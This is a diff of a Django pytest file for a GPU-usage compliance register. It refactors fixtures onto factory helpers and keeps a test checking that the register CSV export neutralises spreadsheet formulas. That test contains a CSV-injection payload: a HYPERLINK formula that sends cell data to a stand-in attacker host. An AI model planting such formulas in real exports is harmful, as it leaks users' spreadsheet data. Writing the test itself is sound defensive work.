@@ -7,24 +7,24 @@ import pytest
 from django.core.management import CommandError, call_command
 
 from compliance.models import LargeRunEntry
-from tests.compliance.test_check_thresholds import (
-    TODAY,
-    allocation,
-    check,
-    organisation,
-    seconds_for,
-    use,
-)
+from tests.compliance.test_check_thresholds import TODAY, check, seconds_for
 from tests.conftest import client_for
+from tests.factories import make_allocation, make_organisation, make_usage_record
 
 
 @pytest.fixture
 def year_of_usage(reference_data):
-    org = organisation("FI-REPORT-1")
-    big = allocation(org, "jupiter", "big_llm", 1_000_000, model="aurora-70b")
-    small = allocation(org, "vega", "small_ft", 1_000)
+    org = make_organisation(legal_name="Company FI-REPORT-1", registration_id="FI-REPORT-1")
+    big = make_allocation(
+        organisation=org,
+        cluster="jupiter",
+        account="big_llm",
+        gpu_hours=1_000_000,
+        model_name="aurora-70b",
+    )
+    small = make_allocation(organisation=org, cluster="vega", account="small_ft", gpu_hours=1_000)
     for alloc, seconds in ((big, seconds_for(3e23, "jupiter")), (small, 500 * 3600)):
-        record = use(alloc, seconds)
+        record = make_usage_record(allocation=alloc, gpu_seconds=seconds)
         record.start = f"{TODAY.year}-02-01T10:00:00Z"
         record.save()
     return big, small
@@ -105,8 +105,14 @@ def test_register_csv_never_hands_a_spreadsheet_a_formula(
     client, reference_data, governance_officer
 ):
     hostile = '=HYPERLINK("http://evil.example/?"&A2,"open")'
-    big = allocation(organisation("FI-REPORT-2"), "jupiter", "big_llm2", 1_000_000, model=hostile)
-    use(big, seconds_for(3e23, "jupiter"))
+    big = make_allocation(
+        organisation=make_organisation(registration_id="FI-REPORT-2"),
+        cluster="jupiter",
+        account="big_llm2",
+        gpu_hours=1_000_000,
+        model_name=hostile,
+    )
+    make_usage_record(allocation=big, gpu_seconds=seconds_for(3e23, "jupiter"))
     check()
     response = client_for(client, governance_officer).get("/governance/register.csv")
     rows = list(csv.DictReader(io.StringIO(response.content.decode())))
